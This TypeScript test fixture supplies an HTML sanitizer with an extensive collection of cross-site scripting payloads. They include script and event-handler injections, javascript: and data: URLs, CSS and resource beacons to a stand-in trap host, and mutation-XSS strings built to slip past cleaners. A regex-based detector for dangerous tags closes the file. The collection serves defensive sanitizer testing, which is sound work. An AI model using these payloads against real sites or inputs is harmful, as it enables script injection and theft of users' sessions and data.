/** Where a text that acts would send something. Nobody may ever ask it for anything. */
export const TRAP = 'https://trap.example';

/** Texts that say what would act: harmless unless somebody decodes them once too often. */
export const TEXTS: readonly string[] = [
  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
];

/** What each would do in a page that shows it as it is: call `alert`, ask the trap, or lead its reader away. */
const ENDING: readonly string[] = [
  // Scripts.
  '<script>alert(1)</script>',
  '<script>alert("</p>")</script foo>',
  `<script src="${TRAP}/a.js"></script>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<ScRiPt\n>alert(1)</sCrIpT\t>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  // Handlers.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror\u000c=alert(1)>',
  '><img """><script>alert(1)</script>">',
  '<img src="x` `"onerror="alert(1)">',
  '<p onclick="alert(1)" onpointerenter=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>x</body>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=checkbox autofocus onfocus=alert(1) checked>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<mention-component onclick=alert(1) entity_identifier="x&quot; onclick=&quot;alert(1)"></mention-component>',
  '<image-component src="javascript:alert(1)" onerror=alert(1)></image-component>',
  // Addresses.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="\tjava\nscript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" target="_self">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://trap.example/x">x</a>',
  '<a href="//trap.example/">x</a><a href="/\\trap.example/">x</a><a href="/\t/trap.example/">x</a>',
  `<a href="https://example.com/" ping="${TRAP}/ping">x</a>`,
  '<area href="javascript:alert(1)" shape=default>',
  '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//trap.example/a.png"><img src="\\\\trap.example/a.png"><img src="/\\trap.example/a.png">',
  `<img src="/a.png" srcset="${TRAP}/a.png 2x" sizes="100vw">`,
  `<picture><source srcset="${TRAP}/a.png"><img src="/a.png"></picture>`,
  `<img src="/a.png" lowsrc="${TRAP}/a.png" dynsrc="${TRAP}/b.png">`,
  // What loads, leads away, or takes the page over.
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  `<iframe src="${TRAP}/"></iframe><frameset><frame src="${TRAP}/"></frameset>`,
  `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
  `<object data="${TRAP}/a.swf"></object><embed src="${TRAP}/a.swf">`,
  '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  `<object><param name="src" value="javascript:alert(1)"></object><applet code="${TRAP}/a.class"></applet>`,
  `<base href="${TRAP}/">`,
  `<meta http-equiv="refresh" content="0;url=${TRAP}/">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  `<link rel="stylesheet" href="${TRAP}/a.css"><link rel="prefetch" href="${TRAP}/a"><link rel=icon href="${TRAP}/i">`,
  `<form action="${TRAP}/"><input name=a><input type=submit autofocus><button formaction="javascript:alert(1)">x</button></form>`,
  `<form id=f action="javascript:alert(1)"></form><button form=f>x</button><input type=image src="${TRAP}/a.png">`,
  '<isindex type=image src=x onerror=alert(1)><keygen autofocus onfocus=alert(1)>',
  `<body background="${TRAP}/a.png"><table background="${TRAP}/b.png"><tr><td background="${TRAP}/c.png">x</table>`,
  `<video poster="${TRAP}/a.png" src="${TRAP}/a.mp4" autoplay></video><audio src="${TRAP}/a.mp3" autoplay></audio>`,
  `<video><track default src="${TRAP}/a.vtt"></video><portal src="${TRAP}/"></portal>`,
  `<link rel=import href="${TRAP}/"><script type=importmap>{}</script>`,
  // Styles.
  `<style>@import "${TRAP}/a.css"; *{background:url(${TRAP}/b.png)}</style>`,
  `<p style="background:url(${TRAP}/a.png)">x</p><p style="background-image:url('${TRAP}/b.png')">x</p>`,
  `<p style="color:red;background-color:url(${TRAP}/a.png)">x</p><p style="color:\\75rl(${TRAP}/b.png)">x</p>`,
  `<p style="color:red&quot;onclick=&quot;alert(1)">x</p><p style="width:expression(alert(1));-moz-binding:url(x)">x</p>`,
  `<p style="list-style:url(${TRAP}/a.png);cursor:url(${TRAP}/b.png),auto;color:/**/url(${TRAP}/c.png)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9">x</p>`,
  // Other namespaces.
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"></script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=20>x</text></a></svg>',
  `<svg><image href="${TRAP}/a.png"></image><use href="${TRAP}/a.svg#x"></use><style>@import "${TRAP}/a.css"</style></svg>`,
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><maction actiontype="statusline#javascript:alert(1)" xlink:href="javascript:alert(1)">x</maction></math>',
  '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)" onclick=alert(1)>x</x>',
  // Read once by a cleaner and otherwise by a browser.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>"></style></svg>',
  '<svg><style><img title="</style><img src onerror=alert(1)>"></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=alert(1)>"></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
  '<svg><desc><table><td><svg><style><img src=x onerror=alert(1)></style></svg></td></table></desc></svg>',
  '<table><td><svg><desc><td><img src onerror=alert(1)></desc></svg></table>',
  '<select><style></select><img src onerror=alert(1)></style>',
  '<select><template><img src onerror=alert(1)></template></select>',
  '<template><p title="</template><img src onerror=alert(1)>"></template>',
  '<title><a title="</title><img src onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<p title=`><img src onerror=alert(1)>`>x</p>',
  '<!--><img src onerror=alert(1)>-->',
  '<!-- --!><img src onerror=alert(1)> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?xml <script>alert(1)</script> ?>',
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '</ <img src onerror=alert(1)>>',
  ...TEXTS,
  '<p class="&quot;><script>alert(1)</script>" data-x="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<img alt="&quot;><script>alert(1)</script>" title="\'><script>alert(1)</script>">',
  '<a href="x\u00a0" onclick=alert(1)>a</a>',
  // Names that a page trusts.
  '<p id="alert" name="alert" slot="x" is="x-y" part="p" contenteditable>x</p><a id=cookie name=cookie>x</a>',
  '<div popover id=p>x</div><button popovertarget=p command=show-modal onbeforetoggle=alert(1)>x</button>',
];

/** The same where what comes behind is taken in as well: each is a text of its own. */
const SWALLOWING: readonly string[] = [
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<plaintext><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<textarea><p title="</textarea><img src onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<template><p title="</template><img src onerror=alert(1)>">',
  '<svg><script xlink:href="data:,alert(1)" /></svg>',
  '<img src onerror\n=\nalert(1)//',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></form>',
  '<svg><title><![CDATA[</title><img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"',
  '<!-- <img src="-->"><img src=x onerror=alert(1)>',
];

const beginningOf = (index: number): string => `case ${index} begins`;
const marked = (html: string, index: number): string => `<p>${beginningOf(index)}</p>${html}`;

/** A text that a client writes, and what stands in it whatever is taken out. */
export interface HostileText {
  readonly html: string;
  readonly stays: readonly string[];
}

const text = (parts: readonly string[]): HostileText => ({
  html: parts.map(marked).join('\n'),
  stays: parts.map((_, index) => beginningOf(index)),
});

/** All of it in as few texts as show each of them to a cleaner. */
export const HOSTILE_TEXTS: readonly HostileText[] = [text(ENDING), ...SWALLOWING.map((one) => text([one]))];

/** Each by itself. */
export const HOSTILE_HTML: readonly string[] = [...ENDING, ...SWALLOWING];

const SAFE_TAG = /^<\/?([a-z][a-z0-9-]*)(( [a-z][a-z0-9_-]*="([^"<>&]|&(amp|lt|gt|quot);)*")*)( \/)?>$/;
const ACTS = new Set(
  (
    'script style iframe frame frameset object embed applet svg math base meta link form button select textarea video ' +
    'audio source picture template noscript title body html head x'
  ).split(' '),
);
const ACTING = /^(on.*|form.*|src(doc|set)|lowsrc|dynsrc|background|poster|ping|id|name|is|slot|popover.*)$/;
const SAFE_ADDRESS = /^(?![\\/]{2})((https?|mailto|tel):|[^:]*$|[^:/?#]*[/?#])/i;
// oxlint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f]/;

function acts(name: string, value: string): boolean {
  if (ACTING.test(name)) return true;
  if (name === 'style') return /url|expression|\\|position|&quot;/i.test(value);
  return ['href', 'src'].includes(name) && (CONTROL.test(value) || !SAFE_ADDRESS.test(value));
}

/** Tags of a text that could act, judged by nothing but how they are written. */
export function suspiciousIn(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => {
    const [, element, attributes = ''] = SAFE_TAG.exec(tag) ?? [];
    if (element === undefined || ACTS.has(element)) return true;
    return [...attributes.matchAll(/ ([\w-]+)="([^"]*)"/g)].some(([, name, value]) => acts(name!, value!));
  });
}
